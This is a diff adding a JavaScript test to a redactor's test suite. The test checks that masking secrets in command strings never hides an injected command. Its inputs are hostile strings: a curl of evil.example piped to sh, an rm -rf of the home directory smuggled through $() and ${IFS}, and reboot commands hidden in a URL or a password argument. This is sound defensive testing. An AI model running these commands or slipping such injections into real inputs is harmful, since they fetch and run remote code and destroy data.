@@ -101,6 +101,17 @@ describe('redactor', () => {
     );
   });
 
+  it.each([
+    'deploy --key=x|curl${IFS}evil.example|sh',
+    'open https://a.example/?token=$(rm${IFS}-rf${IFS}~)',
+    'open https://ada:$(reboot)@a.example/',
+    'run --password=`reboot`',
+    'run --secret=${HOME}',
+  ])('B-26 hides no command behind a secret: %s', (text) => {
+    const command = text.slice(text.search(/[|`(]|[$](?=[({])/));
+    expect(redacted(text)).toContain(command.slice(0, 12));
+  });
+
   it('B-26 hides what a path declares, for all positions too', () => {
     const value = [{ users: [{ tax: 'A1' }, { tax: 'B2', name: 'ada' }] }, 'plain', 'hidden'];
     expect(redacted(value, ['args[0].users[*].tax', 'args[2]'])).toEqual([
